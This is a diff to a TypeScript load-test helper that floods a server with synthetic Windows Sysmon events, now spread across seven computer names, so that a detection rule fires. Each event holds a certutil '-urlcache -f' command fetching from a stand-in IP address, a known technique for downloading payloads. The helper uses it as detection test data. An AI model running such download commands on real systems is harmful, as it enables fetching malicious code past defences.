@@ -27,6 +27,7 @@ export interface Burst {
 const WRITERS = 8
 const SENDERS = 2
 const EVENTS_PER_DELIVERY = 50
+const COMPUTERS = 7
 
 /** Writes notes and telemetry as fast as the server answers, until it answers no more. */
 export function startBurst(writer: Caller, sender: Caller, origin: URL): Burst {
@@ -59,7 +60,11 @@ export function startBurst(writer: Caller, sender: Caller, origin: URL): Burst {
     for (;;) {
       const ids = Array.from({ length: EVENTS_PER_DELIVERY }, () => crypto.randomUUID())
       try {
-        const answer = await deliver(sender, origin, ids.map(eventLine).join('\n'))
+        const answer = await deliver(
+          sender,
+          origin,
+          ids.map((id, i) => eventLine(id, `gate-${i % COMPUTERS}`)).join('\n'),
+        )
         if (answer.accepted !== ids.length) throw new Error(`accepted ${answer.accepted}`)
         delivered.push(...ids)
       } catch (fault) {
@@ -80,12 +85,12 @@ export function startBurst(writer: Caller, sender: Caller, origin: URL): Burst {
   }
 }
 
-/** An event that the test's rule matches; all of one entity, so that they make one finding. */
-export function eventLine(id: string): string {
+/** An event that the test's rule matches; those of one computer make one finding. */
+export function eventLine(id: string, computer = 'gate-server'): string {
   return JSON.stringify({
     Channel: 'Microsoft-Windows-Sysmon/Operational',
     EventID: 1,
-    Computer: 'gate-server',
+    Computer: computer,
     Image: 'C:\\Windows\\System32\\certutil.exe',
     CommandLine: `certutil -urlcache -f http://192.0.2.7/${id}`,
   })
